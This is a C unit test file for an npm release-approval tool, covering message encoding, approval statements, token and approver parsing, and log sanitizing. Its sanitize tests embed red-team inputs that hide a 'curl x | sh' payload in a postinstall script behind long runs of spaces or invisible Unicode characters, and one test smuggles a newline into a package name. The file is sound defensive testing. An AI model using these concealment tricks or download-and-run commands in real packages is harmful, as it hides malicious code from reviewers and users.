/* The small formats: handoff messages, approval statement, token store,
 * approver enrolment (with refused factors), log sanitizing. */
#include "config.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "approver.h"
#include "handoff.h"
#include "nslog.h"
#include "secure_file.h"
#include "statement.h"
#include "token_store.h"

#define B32 "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ"

static void
test_handoff(void **state)
{
	static const unsigned char payload[] = "0123456789abcdef0123456789abcdef\0tok\0\0";
	const unsigned char *p;
	const char *a, *t, *o;
	unsigned char *m;
	size_t len, plen;
	int type;

	(void)state;
	m = ns_bp_encode(NS_BP_TOKEN, payload, sizeof(payload) - 1, &len);
	assert_non_null(m);
	assert_int_equal(ns_bp_decode(m, &type, &p, &plen), 0);
	assert_int_equal(type, NS_BP_TOKEN);
	assert_int_equal(ns_bp_token_fields(p, plen, &a, &t, &o), 0);
	assert_string_equal(t, "tok");
	assert_string_equal(o, "");
	/* damaged magic, version, length; fields without terminators */
	m[0] = 'X';
	assert_int_equal(ns_bp_decode(m, &type, &p, &plen), -1);
	m[0] = 'N';
	m[8] = 2;
	assert_int_equal(ns_bp_decode(m, &type, &p, &plen), -1);
	m[8] = 1;
	m[10] = 0x7f;
	assert_int_equal(ns_bp_decode(m, &type, &p, &plen), -1);
	assert_int_equal(ns_bp_token_fields(payload, 10, &a, &t, &o), -1);
	assert_int_equal(ns_bp_token_fields(payload, sizeof(payload), &a, &t, &o), -1);
	ns_free_secret(m, len);
	assert_null(ns_bp_encode(NS_BP_TOKEN, payload, NS_BP_MAX_PAYLOAD + 1, &len));
}

static void
test_statement(void **state)
{
	struct ns_statement_fields f = {
		"approve", "http://127.0.0.1:4873/", "@acme/x", "1.2.3-rc.1", "next", "sha512-abc", "0123",
		"5e1c", "ff00", "alice", "0123456789abcdef0123456789abcdef", 1800000000, NULL,
	};
	struct ns_err err;
	char *s;

	(void)state;
	s = ns_statement_build(&f, &err);
	assert_non_null(s);
	assert_string_equal(s, "npmstage-approval-v1\naction: approve\nregistry: http://127.0.0.1:4873/\n"
	                       "package: @acme/x\nversion: 1.2.3-rc.1\ndist-tag: next\n"
	                       "integrity: sha512-abc\nshasum: 0123\nstage-id: 5e1c\n"
	                       "report-sha256: ff00\napprover: alice\n"
	                       "nonce: 0123456789abcdef0123456789abcdef\n"
	                       "expires: 2027-01-15T08:00:00Z\n");
	free(s);
	f.name = "evil\npackage: other";
	assert_null(ns_statement_build(&f, &err));
	assert_non_null(strstr(err.msg, "control character"));
	f.name = "";
	assert_null(ns_statement_build(&f, &err));
}

/* The verified signer from a check report goes into the statement the factor signs;
 * a report without one adds nothing; a malformed one makes every statement fail. */
static void
test_statement_provenance(void **state)
{
	static const char report[] =
	    "{\"result\":\"pass\",\"provenance\":{\"result\":\"pass\",\"source\":\"registry\","
	    "\"bundle_sha256\":\"ab12\",\"identity\":{\"repository\":\"https://r/x\","
	    "\"workflow\":\".github/workflows/release.yml\",\"ref\":\"refs/heads/main\","
	    "\"commit\":\"7d29\",\"issuer\":\"https://issuer\"}}}";
	struct ns_statement_fields f = {
		"approve", "local", "sigstore", "5.0.0", "latest", "sha512-abc", "0123",
		"5e1c", "ff00", "alice", "0123456789abcdef0123456789abcdef", 1800000000, NULL,
	};
	struct ns_statement_provenance p;
	struct ns_err err;
	char *s;

	(void)state;
	assert_int_equal(ns_statement_provenance_from_report(report, &p), 1);
	assert_string_equal(p.repository, "https://r/x");
	assert_string_equal(p.bundle_sha256, "ab12");
	f.provenance = &p;
	s = ns_statement_build(&f, &err);
	assert_non_null(s);
	assert_non_null(strstr(s, "approver: alice\nnonce: 0123456789abcdef0123456789abcdef\n"
	                          "provenance-repository: https://r/x\n"
	                          "provenance-workflow: .github/workflows/release.yml\n"
	                          "provenance-ref: refs/heads/main\nprovenance-commit: 7d29\n"
	                          "provenance-issuer: https://issuer\n"
	                          "provenance-bundle-sha256: ab12\nexpires: "));
	free(s);
	assert_int_equal(ns_statement_provenance_from_report("{\"result\":\"pass\"}", &p), 0);
	assert_int_equal(ns_statement_provenance_from_report(
	    "{\"provenance\":{\"result\":\"none\"}}", &p), 0);
	assert_int_equal(ns_statement_provenance_from_report(
	    "{\"provenance\":{\"result\":\"pass\",\"identity\":{}}}", &p), -1);
	assert_null(ns_statement_build(&f, &err));
	assert_non_null(strstr(err.msg, "provenance-repository is missing"));
}

static void
test_token_store(void **state)
{
	struct ns_token t;
	struct ns_err err;

	(void)state;
	assert_int_equal(ns_token_parse("# c\ntoken abc.def\ntotp sha1 6 30 " B32 "\n", &t, &err), 0);
	assert_string_equal(t.token, "abc.def");
	assert_true(t.has_otp);
	ns_token_wipe(&t);
	assert_int_equal(t.token[0], 0);
	assert_int_equal(ns_token_parse("totp sha1 6 30 " B32 "\n", &t, &err), -1);
	assert_int_equal(ns_token_parse("token a b\n", &t, &err), -1);
	assert_int_equal(ns_token_parse("token a\ntoken b\n", &t, &err), -1);
	assert_int_equal(ns_token_parse("token a\nsms +15550100\n", &t, &err), -1);
	assert_int_equal(ns_token_parse("token \x01\n", &t, &err), -1);
}

static void
test_approver(void **state)
{
	static const char *refused[] = { "sms +15550100\n", "voice +15550100\n",
		                         "email a@example.invalid\n", "push x\n", "yubiotp x\n" };
	struct ns_approver a;
	struct ns_err err;
	size_t i;

	(void)state;
	assert_int_equal(ns_approver_parse("# x\ntotp sha1 6 30 " B32 "\nfido2 es256 a b -\n", "alice",
	                                   &a, &err), 0);
	assert_true(a.has_totp);
	assert_int_equal(a.n_fido2, 1);
	ns_approver_wipe(&a);
	for (i = 0; i < sizeof(refused) / sizeof(refused[0]); i++) {
		char text[200];
		snprintf(text, sizeof(text), "totp sha1 6 30 %s\n%s", B32, refused[i]);
		assert_int_equal(ns_approver_parse(text, "alice", &a, &err), -1);
		assert_non_null(strstr(err.msg, "line 2"));
	}
	assert_int_equal(ns_approver_parse("totp sha1 6 30 " B32 "\ntotp sha1 6 30 " B32 "\n",
	                                   "alice", &a, &err), -1);
	assert_true(ns_user_name_valid("release-bot_1"));
	assert_false(ns_user_name_valid("../etc"));
	assert_false(ns_user_name_valid("Root"));
	assert_false(ns_user_name_valid(""));
}

static void
test_sanitize(void **state)
{
	char out[64];

	(void)state;
	/* every control is escaped visibly, nothing is dropped silently */
	ns_sanitize(out, sizeof(out), "a\x1b[31mb\nc\x7f\r\t");
	assert_string_equal(out, "a\\x1b[31mb\\nc\\x7f\\r\\t");
	ns_sanitize(out, sizeof(out), "caf\xc3\xa9 \xc2\x9b \xff");
	assert_string_equal(out, "caf\xc3\xa9 \\u009b \\xff");
	/* line and paragraph separators, bidi embeddings, overrides and isolates */
	ns_sanitize(out, sizeof(out), "x\xe2\x80\xa8y\xe2\x80\xa9\xe2\x80\xae\xe2\x81\xa6z");
	assert_string_equal(out, "x\\u2028y\\u2029\\u202e\\u2066z");
	/* overlong and surrogate forms are invalid, escaped byte by byte */
	ns_sanitize(out, sizeof(out), "\xc0\x8a\xed\xa0\x80");
	assert_string_equal(out, "\\xc0\\x8a\\xed\\xa0\\x80");
	/* bounded: a cut is marked, and never splits an escape or a character */
	ns_sanitize(out, 8, "abcdef");
	assert_string_equal(out, "abcdef");
	ns_sanitize(out, 8, "abcdefgh");
	assert_string_equal(out, "abcd...");
	ns_sanitize(out, 8, "ab\ncdefgh");
	assert_string_equal(out, "ab\\n...");
	ns_sanitize(out, 8, "abc\ndefgh");
	assert_string_equal(out, "abc...");
	ns_sanitize(out, 7, "abc\xc3\xa9\xc3\xa9x");
	assert_string_equal(out, "abc...");
	/* a long run of spaces cannot push a payload out of sight (red team: a
	 * postinstall "node build.js" + 700 spaces + "; curl ... | sh") */
	{
		char script[800], shown[600];
		memset(script, ' ', sizeof(script));
		memcpy(script, "node build.js", 13);
		memcpy(script + 713, "; curl x | sh", 14);
		ns_sanitize(shown, sizeof(shown), script);
		assert_string_equal(shown, "node build.js<700 spaces>; curl x | sh");
	}
	ns_sanitize(out, sizeof(out), "a       b");
	assert_string_equal(out, "a       b");
	ns_sanitize(out, sizeof(out), "a        b");
	assert_string_equal(out, "a<8 spaces>b");
	ns_sanitize(out, 12, "a        b");
	assert_string_equal(out, "a...");
	/* invisible and blank code points are escaped, and a run of one is counted (red
	 * team: 400 U+200B before "||payload") */
	ns_sanitize(out, sizeof(out), "a\xe2\x80\x8b" "b\xc2\xa0" "c\xe3\x80\x80" "d");
	assert_string_equal(out, "a\\u200bb\\u00a0c\\u3000d");
	{
		char script[1300], shown[600];
		size_t o = 0;
		memcpy(script, "node build.js", 13);
		o = 13;
		for (int i = 0; i < 400; i++, o += 3)
			memcpy(script + o, "\xe2\x80\x8b", 3);
		memcpy(script + o, "||(curl x|sh)", 14);
		ns_sanitize(shown, sizeof(shown), script);
		assert_string_equal(shown, "node build.js<400 x \\u200b>||(curl x|sh)");
	}
}

static size_t
utf8_put(char *d, unsigned long cp)
{
	if (cp < 0x800) {
		d[0] = (char)(0xc0 | cp >> 6);
		d[1] = (char)(0x80 | (cp & 0x3f));
		return 2;
	}
	if (cp < 0x10000) {
		d[0] = (char)(0xe0 | cp >> 12);
		d[1] = (char)(0x80 | ((cp >> 6) & 0x3f));
		d[2] = (char)(0x80 | (cp & 0x3f));
		return 3;
	}
	d[0] = (char)(0xf0 | cp >> 18);
	d[1] = (char)(0x80 | ((cp >> 12) & 0x3f));
	d[2] = (char)(0x80 | ((cp >> 6) & 0x3f));
	d[3] = (char)(0x80 | (cp & 0x3f));
	return 4;
}

/* Escaped by property, not by a hand list (red team: 300 TAG characters hid a
 * payload; 4,160 format and zero-width code points passed). The ranges are the
 * red team's list of what passed, and the Unicode properties named in sanitize.c. */
static void
test_sanitize_invisible(void **state)
{
	static const unsigned long ranges[][2] = {
		/* what passed before: Cf, variation selectors, TAG and other ignorables */
		{ 0x0600, 0x0605 }, { 0x06dd, 0x06dd }, { 0x070f, 0x070f }, { 0x0890, 0x0891 },
		{ 0x08e2, 0x08e2 }, { 0x180b, 0x180d }, { 0x180f, 0x180f }, { 0x206a, 0x206f },
		{ 0xfe00, 0xfe0f }, { 0xfff9, 0xfffb }, { 0x110bd, 0x110bd }, { 0x110cd, 0x110cd },
		{ 0x13430, 0x13438 }, { 0x1bca0, 0x1bca3 }, { 0x1d173, 0x1d17a },
		{ 0xe0000, 0xe0fff },
		/* Default_Ignorable_Code_Point, controls, separators, private use, nonchars */
		{ 0x0080, 0x00a0 }, { 0x00ad, 0x00ad }, { 0x034f, 0x034f }, { 0x061c, 0x061c },
		{ 0x115f, 0x1160 }, { 0x1680, 0x1680 }, { 0x17b4, 0x17b5 }, { 0x180e, 0x180e },
		{ 0x2000, 0x200f }, { 0x2028, 0x202f }, { 0x205f, 0x2069 }, { 0x2800, 0x2800 },
		{ 0x3000, 0x3000 }, { 0x3164, 0x3164 }, { 0xe000, 0xf8ff }, { 0xfdd0, 0xfdef },
		{ 0xfeff, 0xfeff }, { 0xffa0, 0xffa0 }, { 0xfff0, 0xfff8 }, { 0xfffe, 0xffff },
		{ 0x1fffe, 0x1ffff }, { 0xf0000, 0x10ffff },
	};
	char in[16], out[64], want[16];
	unsigned long cp;
	size_t i, n, count = 0;

	(void)state;
	for (i = 0; i < sizeof(ranges) / sizeof(ranges[0]); i++)
		for (cp = ranges[i][0]; cp <= ranges[i][1]; cp++, count++) {
			in[0] = 'A';
			n = 1 + utf8_put(in + 1, cp);
			memcpy(in + n, "B", 2);
			ns_sanitize(out, sizeof(out), in);
			snprintf(want, sizeof(want), "A\\u%04lxB", cp);
			if (strcmp(out, want) != 0)
				fail_msg("U+%04lX shown as \"%s\", not escaped", cp, out);
			assert_int_equal(ns_sanitized_len(in), strlen(want));
		}
	assert_true(count > 4160 + 65536);
	/* ordinary text shows as itself: accents (also combining), CJK, emoji, ZWJ-free */
	{
		const char *plain = "caf\xc3\xa9 e\xcc\x81 \xe4\xb8\xad\xe6\x96\x87 "
		    "\xf0\x9f\x98\x80 \xd0\x9f\xd1\x80\xd0\xb8 \xce\xb1\xce\xb2 \xe2\x82\xac";
		ns_sanitize(out, sizeof(out), plain);
		assert_string_equal(out, plain);
		assert_int_equal(ns_sanitized_len(plain), strlen(plain));
	}
	/* red team: "node build.js", 300 TAG characters, then the payload */
	{
		char script[1300], shown[600];
		size_t o = 13;
		memcpy(script, "node build.js", 13);
		for (i = 0; i < 300; i++)
			o += utf8_put(script + o, 0xe0020 + i % 0x5f);
		memcpy(script + o, "||(curl x|sh)", 14);
		ns_sanitize(shown, sizeof(shown), script);
		assert_string_equal(shown, "node build.js<300 invisible \\ue0020-\\ue007e>||(curl x|sh)");
		assert_int_equal(ns_sanitized_len(script), strlen(shown));
	}
	/* a run of one character is still counted; fewer than 4 are escaped one by one */
	ns_sanitize(out, sizeof(out), "a\xf3\xa0\x80\xa0\xf3\xa0\x80\xa0\xf3\xa0\x80\xa0"
	    "\xf3\xa0\x80\xa0" "b");
	assert_string_equal(out, "a<4 x \\ue0020>b");
	ns_sanitize(out, sizeof(out), "a\xe2\x80\xae\xe2\x81\xa6\xc2\x85" "b");
	assert_string_equal(out, "a\\u202e\\u2066\\u0085b");
	/* the length the check compares with the summary's quote bound */
	assert_int_equal(ns_sanitized_len("a\nb        c"), strlen("a\\nb<8 spaces>c"));
	assert_int_equal(ns_sanitized_len(NULL), 0);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_handoff),
		cmocka_unit_test(test_statement),
		cmocka_unit_test(test_statement_provenance),
		cmocka_unit_test(test_token_store),
		cmocka_unit_test(test_approver),
		cmocka_unit_test(test_sanitize),
		cmocka_unit_test(test_sanitize_invisible),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
